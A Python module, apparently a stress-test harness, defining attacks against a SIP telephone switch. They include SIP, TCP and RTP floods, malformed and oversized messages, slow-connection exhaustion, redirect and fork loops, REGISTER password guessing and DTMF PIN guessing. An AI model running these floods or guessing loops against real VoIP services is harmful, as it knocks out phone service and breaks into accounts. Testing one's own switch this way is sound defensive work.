"""What one attacker can do to a switch, each in a function that is given an `Attacker` and goes on until its time is over."""
import os, random, socket, struct, threading, time
from party import COUNT, Party, audio_port, response, sdp

PACKETS = 20_000  # a second, at most
OCTETS = 10_000_000
ATTACKS = {}


def attack(name):
    def put(function):
        ATTACKS[name] = function
        return function
    return put


class Attacker:
    """Where he is, whom he attacks, until when; makes parties of his accounts, and counts what he sends."""

    def __init__(self, switch, address, accounts, ports, end):
        self.switch, self.address, self.accounts, self.ports, self.end, self.parties = switch, address, list(accounts), ports, end, []
        self.streamed = 0

    def party(self):
        self.parties.append(Party(self.switch, self.address, self.accounts[len(self.parties) % len(self.accounts)]))
        return self.parties[-1]

    def turns(self, rate, until=None):
        """At most so many turns a second until his time is over; what was missed for more than a tenth of a second is not made up for."""
        end, began, turn = until or self.end, time.monotonic(), 0
        while (now := time.monotonic()) < end:
            due = (now - began) * rate
            if turn >= due:
                time.sleep(min(0.001, (turn + 1 - due) / rate))
                continue
            if due - turn > rate / 10 + 1: began += (due - turn) / rate
            yield turn
            turn += 1

    def tcp(self):
        s = socket.socket()
        s.settimeout(0.5)
        s.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT: ports in TIME_WAIT are not lost to others of this machine
        s.bind((self.address, 0))
        s.connect(self.switch)
        return s

    def stream(self, octets, reads=False):
        """The same again and again on one TCP connection, which is opened anew where it is cut."""
        s = None
        for _ in self.turns(max(1, OCTETS / len(octets))):
            try:
                s = s or self.tcp()
                s.sendall(octets)
                self.streamed += len(octets)
                if reads: s.recv(1 << 20)
            except OSError:
                if s: s.close()
                s = None
                time.sleep(0.02)
        if s: s.close()

    def leave(self):
        """A registration lasts for as long as it was granted, attack or not: takes his away, so that what is left is the switch's."""
        for party in {party.user: party for party in self.parties}.values(): party.unregister()

    def figures(self, seconds):
        return {"packets_s": round(sum(p.sent for p in self.parties) / seconds), "kB_s": round((self.streamed + sum(p.octets for p in self.parties)) / seconds / 1000)}


# Strangers


@attack("to-nobody")
def to_nobody(a):
    """As many packets to a socket that nobody reads: what this machine alone makes of an attack."""
    sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sink.bind((a.address, 0))
    p = a.party()
    for _ in a.turns(PACKETS): p.send(p.request("OPTIONS", f"sip:{p.host}", f"n{next(COUNT)}"), sink.getsockname())


@attack("long-request-uri")
def long_uri(a):
    p = a.party()
    a.stream(p.request("OPTIONS", f"sip:a@{p.host}" + ";" * 63000, "u", branch="u"))


@attack("long-lists")
def long_lists(a):
    """All that the bounds of one message let through: sixteen addresses of 64 parameters each."""
    p = a.party()
    element = f"<sip:a@{p.host}" + "".join(f";parameter{n:02}={'v' * 40}" for n in range(60)) + ">"
    a.stream(p.request("OPTIONS", f"sip:{p.host}", "l", branch="l", more=f"Route: {element},{element},{element},{element}\r\n" * 4), reads=True)


@attack("pings-unread")
def pings(a):
    a.stream(b"\r\n\r\n" * 16384)


@attack("answers-unread")
def unread(a):
    p = a.party()
    a.stream(b"".join(p.request("OPTIONS", f"sip:{p.host}", f"q{n}", branch=f"q{n}").replace(b"SIP/2.0/UDP", b"SIP/2.0/TCP") for n in range(50)))


@attack("large-options")
def large(a):
    p = a.party()
    for _ in a.turns(OCTETS / 60_000): p.send(p.request("OPTIONS", f"sip:{p.host}", f"l{next(COUNT)}", body="x" * 60000, kind="text/plain"))


def small(method, tag="", account=False):
    def flood(a):
        p = a.party()
        if account: p.register(f"<sip:{p.user}@{p.at}>")
        for _ in a.turns(PACKETS): p.send(p.request(method, f"sip:9999@{p.host}", f"s{next(COUNT)}", tag=tag))
    return flood


attack("options-flood")(small("OPTIONS"))
attack("bye-of-no-dialog")(small("BYE", ";tag=zz"))
attack("invite-unknown-number")(small("INVITE"))


@attack("junk")
def junk(a):
    p = a.party()
    for _ in a.turns(PACKETS): p.send(random.randbytes(200))


@attack("answers-to-nothing")
def stray_answers(a):
    """2xx to INVITEs that were never sent."""
    p = a.party()
    invite = p.invite("*43", "n").decode().replace(f"Via: SIP/2.0/UDP {p.at};", "Via: SIP/2.0/UDP %s:%d;" % p.switch)
    for _ in a.turns(PACKETS): p.send(response(invite.replace("branch=", f"branch=z9hG4bKn{next(COUNT)}"), "200 OK", next(COUNT), f"Contact: <sip:{p.user}@{p.at}>\r\n", sdp(p.address)))


@attack("tcp-trickle")
def trickle(a):
    held = []
    for turn in a.turns(500):
        try:
            if len(held) < 900:
                held.append(a.tcp())
                held[-1].send(b"OPTI")
            else: held[turn % 900].send(b"O")
        except OSError:
            if held: held.pop(turn % len(held)).close()
    for s in held: s.close()


@attack("tcp-churn")
def churn(a):
    for _ in a.turns(2000):
        try: a.tcp().close()
        except OSError: pass


@attack("guesses")
def guesses(a):
    p = a.party()
    octets, call = p.registration(f"<sip:{p.user}@{p.at}>")
    p.send(octets)
    p.challenged(p.final(call, 1))
    uri = f"sip:{p.host}"
    for turn in a.turns(PACKETS):
        p.send(p.request("REGISTER", uri, f"g{next(COUNT)}", to=f"sip:{p.user}@{p.host}", more=p.proof("REGISTER", uri, "Authorization", f"guess{turn}")))


@attack("packets-to-all-ports")
def spray(a):
    p = a.party()
    packet = struct.pack("!BBHII", 0x80, 0, 1, 1, 1) + b"\xff" * 160
    for turn in a.turns(PACKETS): p.send(packet, (p.host, a.ports[turn % len(a.ports)]))


# With an account


attack("options-of-an-account")(small("OPTIONS", account=True))
attack("subscribes")(small("SUBSCRIBE", account=True))


@attack("thousand-contacts")
def contacts(a):
    p = a.party()
    for _ in a.turns(20): p.register(",".join(f"<sip:{p.user}@{p.at};x={i}>" for i in range(1000)))


@attack("registers")
def registers(a):
    """Right credentials, ever other contacts."""
    p = a.party()
    p.register(f"<sip:{p.user}@{p.at}>")
    for turn in a.turns(PACKETS): p.send(p.registration(f"<sip:{p.user}@{p.at};x={turn}>")[0])


@attack("invites-and-cancels")
def cancels(a):
    """Calls that are answered before they are cancelled, and not acknowledged."""
    p = a.party()
    p.register(f"<sip:{p.user}@{p.at}>")
    for _ in a.turns(PACKETS / 2):
        call = f"k{next(COUNT)}"
        p.send(p.invite("*43", call, branch=call))
        p.send(p.request("CANCEL", f"sip:*43@{p.host}", call, branch=call))


def answering(a, p, how):
    """Answers what comes to a party's socket, on a thread."""
    def answers():
        while time.monotonic() < a.end:
            try:
                text = p.sock.recv(65536).decode(errors="replace")
            except OSError:
                continue
            if text.startswith("INVITE "): how(text)
            elif text.split(" ", 1)[0] in ("BYE", "CANCEL", "INFO", "UPDATE"): p.send(response(text, "200 OK", "z"))
    thread = threading.Thread(target=answers, daemon=True)
    thread.start()
    return thread


@attack("redirected-to-itself")
def redirects(a):
    """Ten contacts that all send the call back to their own number."""
    caller, p = a.party(), a.party()
    p.register(",".join(f"<sip:{p.user}@{p.at};x={i}>" for i in range(10)))
    answering(a, p, lambda text: p.send(response(text, "302 Moved", next(COUNT), f"Contact: <sip:{p.user}@{p.host};x={next(COUNT)}>\r\n")))
    for _ in a.turns(20): caller.call(p.user)


@attack("redirected-to-each-other")
def ring(a):
    """Ten contacts of each of two numbers, which send the call to the other."""
    caller, one, two = a.party(), a.party(), a.party()
    for p, other in ((one, two), (two, one)):
        p.register(",".join(f"<sip:{p.user}@{p.at};x={i}>" for i in range(10)))
        answering(a, p, lambda text, p=p, other=other: p.send(response(text, "302 Moved", next(COUNT), f"Contact: <sip:{other.user}@{p.host};x={next(COUNT)}>\r\n")))
    for _ in a.turns(20): caller.call(one.user)


def forks(status, number):
    """A callee that answers with ever other To tags."""
    def attack_by_forks(a):
        caller, p = a.party(), a.party()
        p.register(f"<sip:{p.user}@{p.at}>")
        def how(text):
            for _ in a.turns(number, min(a.end, time.monotonic() + 3)):
                p.send(response(text, status, next(COUNT), f"Contact: <sip:{p.user}@{p.at}>\r\n", sdp(p.address) if status[0] == "2" else ""))
            p.send(response(text, "486 Busy Here", next(COUNT)))
        answering(a, p, how)
        for _ in a.turns(1):
            _, call, _, tag = caller.call(p.user)
            if tag: caller.bye(p.user, call, tag)
    return attack_by_forks


attack("forks-that-ring")(forks("180 Ringing", 5000))
attack("forks-that-answer")(forks("200 OK", 5000))


@attack("many-media-lines")
def many_lines(a):
    p = a.party()
    for lines in ("m=audio 9 RTP/AVP 0\r\n" * 2500, "m=audio 9 RTP/AVP 0\r\n" * 32): p.call("*43", sdp(p.address, lines))
    for turn in a.turns(20):
        _, call, _, tag = p.call("*43", sdp(p.address, "m=audio 9 RTP/AVP 0\r\n" * (2500 if turn % 2 else 32)))
        if tag: p.bye("*43", call, tag)


@attack("calls-that-stay")
def calls(a):
    """As many calls at once as an account may have, and more."""
    p = a.party()
    held = []
    for _ in a.turns(200):
        _, call, _, tag = p.call("*43")
        if tag: held.append((call, tag))
    for call, tag in held: p.bye("*43", call, tag)


# In a call that was answered


def in_a_call(name, number="*43", body=None):
    def put(worst):
        def in_one(a):
            p = a.party()
            text, call, cseq, tag = p.call(number, body(p) if body else None)
            if tag:
                worst(a, p, (p.host, audio_port(text)), lambda method, n, **more: p.request(method, f"sip:{number}@{p.host}", call, 100 + n, tag=tag, **more), call, tag)
                p.bye(number, call, tag)
        ATTACKS[name] = in_one
        return in_one
    return put


def rtp(turn, kind=0, octets=b"\xff" * 160):
    return struct.pack("!BBHII", 0x80, kind, turn & 0xFFFF, turn * 160 & 0xFFFFFFFF, 1) + octets


@in_a_call("telephone-events")
def events(a, p, media, *_):
    for turn in a.turns(PACKETS):
        p.send(struct.pack("!BBHII", 0x80, 0x80 | 101, turn & 0xFFFF, turn, 1) + bytes([1, 0x8A, 0, 0xA0]), media)


@in_a_call("packets-to-an-echo")
def packets(a, p, media, *_):
    for turn in a.turns(PACKETS): p.send(rtp(turn), media)


@in_a_call("large-packets-to-an-echo")
def large_packets(a, p, media, *_):
    for turn in a.turns(OCTETS / 60_000): p.send(rtp(turn, octets=bytes(60_000)), media)


@in_a_call("packets-to-a-room", "*60")
def room(a, p, media, *_):
    for turn in a.turns(PACKETS): p.send(rtp(turn), media)


@in_a_call("reports")
def reports(a, p, media, *_):
    for _ in a.turns(PACKETS): p.send(struct.pack("!BBHI", 0x80, 201, 1, 1), (media[0], media[1] + 1))


@in_a_call("srtp-junk", body=lambda p: sdp(p.address, "m=audio 9 RTP/SAVP 0\r\na=crypto:1 AES_CM_128_HMAC_SHA1_80 inline:d0RmdmcmVCspeEc3QGZiNWpVLFJhQX1cfHAwJSoj\r\n"))
def srtp(a, p, media, *_):
    for turn in a.turns(PACKETS): p.send(rtp(turn, octets=bytes(400)), media)


@attack("packets-to-a-phone")
def relayed(a):
    """Relayed to a callee: he is the attacker's too."""
    p, callee = a.party(), a.party()
    callee.register(f"<sip:{callee.user}@{callee.at}>")
    answering(a, callee, lambda text: callee.send(response(text, "200 OK", "w", f"Contact: <sip:{callee.user}@{callee.at}>\r\n", sdp(callee.address))))
    text, call, _, tag = p.call(callee.user)
    if not tag: return
    for turn in a.turns(PACKETS): p.send(rtp(turn), (p.host, audio_port(text)))
    p.bye(callee.user, call, tag)


def requests(name, method, rate=PACKETS, **kind):
    """Ever another request within the dialog; those with {n} differ in it."""
    def flood(a, p, media, within, call, tag):
        for turn in a.turns(rate):
            filled = {key: value.replace("{n}", str(turn)).replace("{host}", p.host).replace("{address}", p.address) for key, value in kind.items()}
            p.send(within(method, turn, **filled))
            if method == "INVITE": p.send(within("ACK", turn))
    in_a_call(name)(flood)


OFFER = sdp("{address}", "m=audio 9 RTP/AVP 0\r\na=x:{n}\r\n")
requests("info", "INFO", body="Signal=1\r\nDuration=60000\r\n", kind="application/dtmf-relay")
requests("options-in-a-call", "OPTIONS")
requests("re-invites", "INVITE", PACKETS / 2, body=OFFER)
requests("updates", "UPDATE", body=OFFER)
requests("refers", "REFER", more="Refer-To: <sip:9999@{host}>\r\n")
requests("subscribes-in-a-call", "SUBSCRIBE", more="Event: refer\r\nExpires: 60\r\n")
requests("notifies-in-a-call", "NOTIFY", more="Event: refer\r\nSubscription-State: active\r\n")
requests("bad-order-in-a-call", "BYE", more="Require: nothing\r\n")


@in_a_call("digits-to-a-question", "*61")
def digits(a, p, media, within, *_):
    """PINs: four digits at a time to a question that is asked again and again."""
    for turn in a.turns(2000): p.send(within("INFO", turn, body=f"Signal={turn % 10}\r\nDuration=60\r\n", kind="application/dtmf-relay"))
